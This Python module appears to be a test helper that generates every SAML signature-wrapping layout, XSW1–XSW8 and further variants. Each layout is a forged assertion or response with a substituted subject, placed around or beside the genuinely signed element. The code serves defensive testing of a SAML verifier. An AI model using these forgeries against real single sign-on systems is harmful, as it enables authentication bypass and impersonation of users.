"""Signature wrapping: every way to put a forged element where the signed one was, and keep the signed one somewhere.

The classic layouts (XSW1 to XSW8) are points in the product of four choices, so the whole product is made.
"""

import copy
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from typing import Literal

from lxml import etree

from broker.saml import names

from .donors import DS, FORGED, SAML, SAMLP, SIGNATURE, assertion_of

Target = Literal["Response", "Assertion"]
Holder = Literal["original", "forged", "both"]

RESPONSE_PLACES = ("child_first", "before_signature", "child_last", "in_signature", "in_object", "in_extensions")
ASSERTION_PLACES = (
    "forged_before",
    "forged_after",
    "forged_around_first",
    "forged_around_last",
    "forged_inside",
    "in_signature",
    "in_object",
    "in_extensions",
    "forged_in_extensions",
    "in_status_detail",
    "in_advice",
)


@dataclass(frozen=True, slots=True)
class Layout:
    """Which signed element is wrapped, where the original goes, who has the signature, and the ID of the forgery."""

    target: Target
    place: str
    signature: Holder
    same_id: bool = False

    def __str__(self) -> str:
        return f"{self.target}-{self.place}-signature_{self.signature}-{'same' if self.same_id else 'new'}_id"


def layouts() -> Iterator[Layout]:
    """All of them."""
    for place, signature, same_id in product(RESPONSE_PLACES, ("original", "forged", "both"), (True, False)):
        yield Layout("Response", place, signature, same_id)
    for place, signature, same_id in product(ASSERTION_PLACES, ("original", "forged", "both"), (True, False)):
        yield Layout("Assertion", place, signature, same_id)


def wrap(donor: bytes, layout: Layout) -> bytes:
    """`donor` after the attack: genuine bytes moved about, and one element with another subject."""
    root = etree.fromstring(donor)
    original = root if layout.target == "Response" else assertion_of(root)
    forged = _forged(original, layout)
    if layout.signature == "original":
        _drop_signature(forged)
    elif layout.signature == "forged":
        _drop_signature(original)
    if layout.target == "Response":
        return etree.tostring(_around_response(original, forged, layout.place))
    _beside_assertion(root, original, forged, layout.place)
    return etree.tostring(root)


def _forged(original: etree._Element, layout: Layout) -> etree._Element:
    forged = copy.deepcopy(original)
    for name_id in forged.iter(f"{SAML}NameID"):
        name_id.text = FORGED
    if not layout.same_id:
        for item in forged.iter(etree.Element):
            if item.get("ID"):
                item.set("ID", item.get("ID") + "_evil")
    return forged


def _drop_signature(element: etree._Element) -> None:
    found = element.find(SIGNATURE)
    if found is not None:
        element.remove(found)


def _signature_of(element: etree._Element) -> etree._Element:
    found = element.find(SIGNATURE)
    if found is None:
        found = etree.Element(SIGNATURE)
        element.insert(1, found)
    return found


def _within(parent: etree._Element, tag: str, content: etree._Element, position: int | None = None) -> None:
    made = etree.Element(tag)
    made.append(content)
    parent.insert(len(parent) if position is None else position, made)


def _around_response(original: etree._Element, forged: etree._Element, place: str) -> etree._Element:
    if place == "child_first":
        forged.insert(0, original)
    elif place == "before_signature":
        forged.insert(1, original)
    elif place == "child_last":
        forged.append(original)
    elif place == "in_signature":
        _signature_of(forged).append(original)
    elif place == "in_object":
        _within(_signature_of(forged), f"{DS}Object", original)
    else:
        _within(forged, f"{SAMLP}Extensions", original)
    return forged


def _beside_assertion(root: etree._Element, original: etree._Element, forged: etree._Element, place: str) -> None:  # noqa: C901  one line a place
    index = root.index(original)
    if place == "forged_before":
        root.insert(index, forged)
    elif place == "forged_after":
        root.append(forged)
    elif place == "forged_in_extensions":
        _within(root, f"{SAMLP}Extensions", forged, 1)
    elif place == "forged_inside":
        original.append(forged)
    else:
        root.replace(original, forged)
        if place == "forged_around_first":
            forged.insert(0, original)
        elif place == "forged_around_last":
            forged.append(original)
        elif place == "in_signature":
            _signature_of(forged).append(original)
        elif place == "in_object":
            _within(_signature_of(forged), f"{DS}Object", original)
        elif place == "in_extensions":
            _within(root, f"{SAMLP}Extensions", original, 1)
        elif place == "in_status_detail":
            _within(root.find(f"{SAMLP}Status"), f"{SAMLP}StatusDetail", original)
        else:
            _within(forged, f"{SAML}Advice", original)


def second_signed_info(donor: bytes, own: etree._Element, *, first: bool) -> bytes:
    """A forged Assertion whose Signature holds two SignedInfo: the genuine one and one with its own digest."""
    root = etree.fromstring(donor)
    assertion = assertion_of(root)
    for name_id in assertion.iter(f"{SAML}NameID"):
        name_id.text = FORGED
    found = assertion.find(SIGNATURE)
    found.insert(0 if first else 1, copy.deepcopy(own))
    return etree.tostring(root)


def naive_subject(data: bytes) -> str:
    """What a receiver reads that takes the first NameID below the first Assertion it finds anywhere."""
    return etree.fromstring(data).findtext(f".//{{{names.SAML}}}Assertion//{{{names.SAML}}}NameID")
